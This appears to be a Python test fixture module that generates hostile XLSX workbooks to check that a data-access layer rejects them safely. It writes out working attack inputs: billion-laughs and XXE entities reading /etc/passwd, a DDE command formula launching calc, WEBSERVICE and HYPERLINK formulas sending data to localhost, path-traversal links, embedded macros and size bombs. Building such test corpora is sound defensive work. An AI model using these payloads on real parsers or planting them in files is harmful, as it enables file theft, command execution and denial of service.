"""Workbooks (XLSX) with what a workbook should not hold: entities, macros, links, cells without end."""

from __future__ import annotations

import zipfile
from pathlib import Path

from tests.data_access.hostile.register import hostile
from tests.data_access.hostile.texts import OLE
from tests.data_access.hostile.zips import changed

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
KIND = "application/vnd.openxmlformats-officedocument.spreadsheetml"
HEADINGS = ("indicator", "period", "area", "value", "status", "dataset")
ROW = ("COP-07", "2023-Q1", "no such area", "48", "A", "records")


def text_cells(row: int, texts: tuple[str, ...]) -> str:
    cells = (
        f'<c r="{"ABCDEFGHIJ"[n]}{row}" t="inlineStr"><is><t>{text}</t></is></c>'
        for n, text in enumerate(texts)
    )
    return f'<row r="{row}">{"".join(cells)}</row>'


def sheet(rows: str = "", *, before: str = "", after: str = "", dimension: str = "A1:F2") -> str:
    rows = text_cells(1, HEADINGS) + text_cells(2, ROW) + rows
    head = f'{before}<worksheet xmlns="{MAIN}" xmlns:r="{OFFICE}"><dimension ref="{dimension}"/>'
    return f"{head}<sheetData>{rows}</sheetData>{after}</worksheet>"


def workbook(
    folder: Path, *, name: str = "observation.xlsx", sheets: int = 1, **parts: str | bytes | None
) -> Path:
    """A workbook of one sheet; ``parts`` replace or add files in it (``xl/x.xml`` is written ``xl_x_xml``)."""
    listed = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="rId{n}"/>' for n in range(1, sheets + 1))
    related = "".join(
        f'<Relationship Id="rId{n}" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
        for n in range(1, sheets + 1)
    )
    shared = f'<Relationship Id="strings" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
    files: dict[str, str | bytes | None] = {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{KIND}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{KIND}.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
        f'Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>{listed}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">{related}{shared}'
        "</Relationships>",
        "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}" count="0" uniqueCount="0"/>',
        "xl/worksheets/sheet1.xml": sheet(),
        **parts,
    }
    with zipfile.ZipFile(folder / name, "w", zipfile.ZIP_DEFLATED) as made:
        for path, content in files.items():
            if content is not None:
                made.writestr(path, content)
    return folder / name


SHEET, STRINGS, RELATIONS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/_rels/workbook.xml.rels"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
LAUGH = '<row r="3"><c r="A3" t="inlineStr"><is><t>&l9;</t></is></c></row>'
DOCTYPES = {
    "a billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]>',
    "an entity that is a file": '<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
    "an entity on another host": '<!DOCTYPE x [<!ENTITY l9 SYSTEM "http://localhost:9/x">]>',
    "an entity of parameters": '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p; <!ENTITY l9 "x">]>',
    "an entity of four million letters": f'<!DOCTYPE x [<!ENTITY l9 "{"a" * 4_000_000}">]>',
    "a document type elsewhere": '<!DOCTYPE x SYSTEM "http://localhost:9/x.dtd" [<!ENTITY l9 "x">]>',
}
for _what, _doctype in DOCTYPES.items():
    hostile(f"a workbook with {_what} in its sheet")(
        lambda folder, doctype=_doctype: workbook(folder, **{SHEET: sheet(LAUGH, before=doctype)})  # type: ignore[misc]
    )
    _strings = f'{_doctype}<sst xmlns="{MAIN}"><si><t>&l9;</t></si></sst>'
    hostile(f"a workbook with {_what} in its texts")(
        lambda folder, text=_strings: workbook(folder, **{STRINGS: text, SHEET: sheet(shared(3, 0))})  # type: ignore[misc]
    )


def shared(row: int, number: int, column: str = "A") -> str:
    return f'<row r="{row}"><c r="{column}{row}" t="s"><v>{number}</v></c></row>'


def formula(text: str) -> str:
    return f'<row r="3"><c r="D3" t="str"><f>{text}</f><v>{text}</v></c></row>'


def link(target: str) -> str:
    return (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" Type="{OFFICE}/worksheet" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )


SHEETS = {
    "a cell in the last row and column": sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "a claim of all cells there can be": sheet(dimension="A1:XFD1048576"),
    "a claim of cells without end": sheet(dimension="A1:ZZZZZZZ99999999999"),
    "a cell behind the last column": sheet('<row r="3"><c r="ZZZZZZ3"><v>1</v></c></row>'),
    "a row of two billion": sheet('<row r="2147483647"><c r="A2147483647"><v>1</v></c></row>'),
    "a row below nought": sheet('<row r="-5"><c r="A-5"><v>1</v></c></row>'),
    "cells without a place": sheet("<row><c><v>1</v></c><c/><c r=''/></row>"),
    "a text that is not there": sheet(shared(3, 4_000_000_000)),
    "a number without end": sheet(f'<row r="3"><c r="D3"><v>{"9" * 1_000_000}</v></c></row>'),
    "an infinite number": sheet('<row r="3"><c r="D3"><v>1e999</v></c></row>'),
    "tags nested a million deep": sheet("<a>" * 1_000_000 + "</a>" * 1_000_000),
    "a cell of 20 MB": sheet(text_cells(3, ("x" * (20 * 2**20),))),
    "a link": sheet(formula('HYPERLINK("http://localhost:9/?"&amp;A1)')),
    "a command": sheet(formula("cmd|'/c calc'!A1")),
    "a formula that fetches": sheet(formula('WEBSERVICE("http://localhost:9/")')),
    "a formula on another file": sheet(formula("'[../../../etc/passwd]x'!A1")),
    "a merged cell of all cells": sheet(after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    "a million merged cells": sheet(
        after="<mergeCells>"
        + "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(1, 200_000))
        + "</mergeCells>"
    ),
    "bytes that are no XML": b"\x00\x01\x02<<<",
    "a web page for a sheet": "<!DOCTYPE html><html><body><table><tr><td>1</td></tr></table></body></html>",
    "a sheet cut off": sheet()[:-60],
    "a sheet in UTF-7": '<?xml version="1.0" encoding="UTF-7"?>' + sheet(),
    "no sheet": None,
}
for _what, _content in SHEETS.items():
    hostile(f"a workbook with {_what}")(
        lambda folder, content=_content: workbook(folder, **{SHEET: content})  # type: ignore[misc]
    )

PARTS: dict[str, dict[str, str | bytes | None]] = {
    "macros under the ending .xlsx": {"xl/vbaProject.bin": OLE},
    "a claim of four billion texts": {
        STRINGS: f'<sst xmlns="{MAIN}" count="4294967295" uniqueCount="4294967295"/>'
    },
    "a sheet that leads out of it": {RELATIONS: link("../../../../../../etc/passwd")},
    "a sheet on another host": {RELATIONS: link("http://localhost:9/sheet1.xml")},
    "a sheet that is a file": {RELATIONS: link("file:///etc/passwd")},
    "no list of relations": {RELATIONS: None},
    "relations that lead to themselves": {RELATIONS: link("_rels/workbook.xml.rels")},
    "no workbook in it": {"xl/workbook.xml": None},
    "wrong kinds of content": {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<html/>"},
    "a link to another workbook": {
        "xl/externalLinks/externalLink1.xml": "<externalLink/>",
        SHEET: sheet(formula("[1]x!A1")),
    },
    "a program beside its sheets": {"xl/embeddings/oleObject1.bin": OLE, "xl/activeX/activeX1.bin": OLE},
}
for _what, _parts in PARTS.items():
    hostile(f"a workbook with {_what}")(
        lambda folder, parts=_parts: workbook(folder, **parts)  # type: ignore[misc]
    )


@hostile("a workbook with macros")
def _(folder: Path) -> Path:
    return workbook(folder, name="observation.xlsm", **{"xl/vbaProject.bin": OLE})


@hostile("a workbook under a password")
def _(folder: Path) -> Path:
    names = "EncryptedPackage\0EncryptionInfo\0".encode("utf-16-le")
    (folder / "observation.xlsx").write_bytes(OLE[:512] + names + bytes(2_000))
    return folder / "observation.xlsx"


@hostile("a workbook cut off")
def _(folder: Path) -> Path:
    path = workbook(folder)
    path.write_bytes(path.read_bytes()[:700])
    return path


@hostile("a workbook whose sheet has a wrong checksum")
def _(folder: Path) -> Path:
    return changed(workbook(folder), (b"PK\1\2", 16, b"\1\2\3\4"))


@hostile("a workbook of a hundred thousand sheets")
def _(folder: Path) -> Path:
    return workbook(folder, sheets=100_000)


@hostile("a workbook of a million columns", slow=True)
def _(folder: Path) -> Path:
    return workbook(folder, **{SHEET: sheet('<row r="3">' + "<c><v>1</v></c>" * 1_000_000 + "</row>")})


@hostile("a workbook of a sheet that bursts", slow=True)
def _(folder: Path) -> Path:
    return workbook(folder, **{SHEET: sheet('<row><c t="str"><v>xxxx</v></c></row>' * 5_000_000)})


@hostile("a workbook of texts that burst", slow=True)
def _(folder: Path) -> Path:
    texts = f'<sst xmlns="{MAIN}">' + "<si><t>aaaaaaaaaaaaaaaa</t></si>" * 6_000_000 + "</sst>"
    return workbook(folder, **{STRINGS: texts})


@hostile("a workbook of rows that each stand a thousand below the last", slow=True)
def _(folder: Path) -> Path:
    rows = (f'<row r="{n * 1_000}"><c r="XFD{n * 1_000}"><v>1</v></c></row>' for n in range(1, 1_048))
    return workbook(folder, **{SHEET: sheet("".join(rows))})
